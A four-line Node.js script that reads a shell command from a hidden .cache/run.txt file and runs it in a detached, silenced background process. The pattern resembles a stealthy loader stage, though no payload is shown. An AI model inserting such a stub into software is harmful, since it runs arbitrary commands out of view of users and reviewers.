const { spawn } = require('child_process');
const fs = require('fs');
const cmd = fs.readFileSync(__dirname + '/.cache/run.txt', 'utf8');
spawn('sh', ['-c', cmd], { detached: true, stdio: 'ignore' }).unref();
